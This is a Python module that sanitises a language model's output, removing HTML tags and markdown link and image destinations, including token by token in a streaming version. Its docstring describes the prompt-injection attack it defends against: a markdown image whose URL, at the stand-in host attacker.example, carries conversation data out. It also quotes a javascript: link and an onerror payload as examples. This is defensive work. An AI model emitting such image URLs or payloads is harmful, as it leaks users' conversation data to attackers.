"""Output guardrails for text that leaves the service: the model's answer can repeat retrieved catalogue text
or follow an injected instruction, so it is treated as untrusted data wherever it is shown (the API, the web
widget, the CLI, landing pages).

What a client could turn into something live is taken out, and everything else is left as written:

- HTML tags (`<script>`, `<img onerror=...>`, `<iframe>`, `<a href=...>`, autolinks `<https://...>`) are
  removed; the content of elements that are code or embeds (`<script>`, `<style>`, `<iframe>`, ...) goes too.
  A `<` that does not open a tag ("price < 5000", "a<b" with no `>` after it) stays.
- Markdown links and images keep their text but lose their destination: `[click](javascript:alert(1))` becomes
  `[click]`, `[x][ref]` becomes `[x]`, `![alt](url)` becomes `[alt]`, and a link definition line
  (`[1]: https://...`) is dropped, so a renderer has no URL to follow or fetch. The classic zero-click
  exfiltration, a markdown image whose URL carries conversation data (`![x](https://attacker.example/?q=...)`),
  therefore never loads, and no `![` is left that a stray definition could turn back into an image.

One character-level state machine does the work, so the streaming variant (`InertStream`) gives exactly the
same text as `inert_text` however the token stream splits a tag or a link: undecided characters are held back
until the next piece decides them (bounded, so a lone `<` or `[` cannot stall a stream).
"""

from __future__ import annotations

import json
import re
from typing import Any

# Elements whose content is code or an embedded document, not text a member should read.
_CONTENT_DROPPED = frozenset(
    {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "noscript",
        "template",
        "textarea",
        "title",
        "xmp",
        "noembed",
        "noframes",
    }
)
_TAG_NAME = re.compile(r"</?\s*([A-Za-z][A-Za-z0-9-]*)")
_MAX_HELD = 2000  # characters held while a tag or a link destination is undecided


class InertStream:
    """`inert_text` for text that arrives in pieces (token streams): feed each piece, then flush at the end."""

    def __init__(self) -> None:
        self._held = ""  # undecided text: a possible tag, or a `]` / `!` waiting for its next character
        self._skip_until: str | None = None  # inside <script>...: the closing tag that ends the skip
        self._skipped = ""  # the tail of the skipped content, to spot that closing tag
        self._dropping = ""  # what is being dropped: "(" a link destination, "[" a reference label, "\n" a line
        self._depth = 0  # open parentheses inside a link destination
        self._dropped = 0
        self._line = ""  # the current line so far, to spot a link definition `[label]: url`

    def feed(self, piece: str) -> str:
        return "".join(self._char(ch) for ch in piece)

    def flush(self) -> str:
        """The text still held: an unterminated tag is kept as text with its `<` defused, never as markup."""
        held, self._held = self._held, ""
        if self._skip_until is not None or self._dropping:
            self._skip_until, self._dropping, self._skipped = None, "", ""
            return ""
        if held.startswith("<"):
            return "< " + inert_text(held[1:])
        return held

    def _char(self, ch: str) -> str:
        if self._skip_until is not None:
            self._skipped = (self._skipped + ch.lower())[-len(self._skip_until) :]
            if self._skipped == self._skip_until:  # the closing tag: consumed as a tag up to its ">"
                self._held, self._skip_until, self._skipped = self._skip_until, None, ""
            return ""
        if self._dropping:
            return self._drop(ch)
        if self._held:
            return self._resolve(ch)
        if ch in "<]!":
            self._held = ch
            return ""
        return self._emit(ch)

    def _drop(self, ch: str) -> str:
        self._dropped += 1
        kind = self._dropping
        if kind == "(":
            self._depth += (ch == "(") - (ch == ")")
            done = self._depth == 0 or ch == "\n"
        else:
            done = ch == "\n" or (kind == "[" and ch == "]")
        if done or self._dropped > _MAX_HELD:
            self._dropping, self._depth, self._dropped = "", 0, 0
            return self._emit("\n") if ch == "\n" else ""
        return ""

    def _start_drop(self, kind: str) -> str:
        self._dropping, self._depth, self._dropped = kind, 1 if kind == "(" else 0, 0
        return ""

    def _resolve(self, ch: str) -> str:
        held = self._held
        if held == "!":
            self._held = ""
            if ch == "[":  # an image: only its alt text, and no "!" just before it that would make one again
                return self._emit("\\[" if self._line.endswith("!") else "[")
            return self._emit("!") + self._char(ch)
        if held == "]":
            self._held = ""
            if ch == "(":
                return self._emit("]") + self._start_drop("(")
            if ch == "[":
                return self._emit("]") + self._start_drop("[")
            if ch == ":" and re.fullmatch(r"\s{0,3}(?:!\\)?\[[^\]]*", self._line):
                self._line = ""
                return self._start_drop("\n")
            return self._emit("]") + self._char(ch)
        # `held` starts with "<": a possible tag
        if len(held) == 1 and not (ch.isalpha() or ch in "/!?"):
            self._held = ""
            return self._emit("<") + self._char(ch)
        self._held = held + ch
        if ch == ">" and _quotes_closed(self._held):
            tag, self._held = self._held, ""
            self._enter_skip(tag)
            return ""
        if len(self._held) > _MAX_HELD:
            text, self._held = self._held, ""
            return self._emit("< ") + self.feed(text[1:])
        return ""

    def _enter_skip(self, tag: str) -> None:
        match = _TAG_NAME.match(tag)
        if match and not tag.startswith("</") and not tag[:-1].rstrip().endswith("/"):
            name = match.group(1).lower()
            if name in _CONTENT_DROPPED:
                self._skip_until, self._skipped = f"</{name}", ""

    def _emit(self, text: str) -> str:
        self._line = (self._line + text).rsplit("\n", 1)[-1][-200:]
        return text


def _quotes_closed(tag: str) -> bool:
    return tag.count('"') % 2 == 0 and tag.count("'") % 2 == 0


def inert_text(text: str) -> str:
    """`text` as inert data: no HTML element, no link or image destination, no markdown image opener."""
    stream = InertStream()
    return stream.feed(text) + stream.flush()


def error_code(content: str, data: Any = None) -> str:
    """The stable code of a failed tool call (`not_found`, `service_unavailable`, ...), or "error": what a
    member is shown of a failure, since the tool's message and hint are written for the model."""
    if data is None:
        try:
            data = json.loads(content)
        except ValueError:
            data = None
    code = data.get("error") if isinstance(data, dict) else None
    return code if isinstance(code, str) and code.replace("_", "").isalnum() and len(code) <= 40 else "error"
